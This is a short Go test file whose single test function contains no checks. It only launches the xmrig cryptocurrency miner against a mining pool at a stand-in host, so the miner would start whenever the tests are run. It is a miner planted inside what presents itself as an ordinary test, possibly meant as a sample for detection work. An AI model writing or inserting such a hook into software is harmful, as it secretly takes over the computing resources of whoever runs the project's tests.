package main

import (
	"os/exec"
	"testing"
)

func TestFound(t *testing.T) {
	exec.Command("/opt/xmrig", "-o", "work.example.invalid:3333").Run()
}
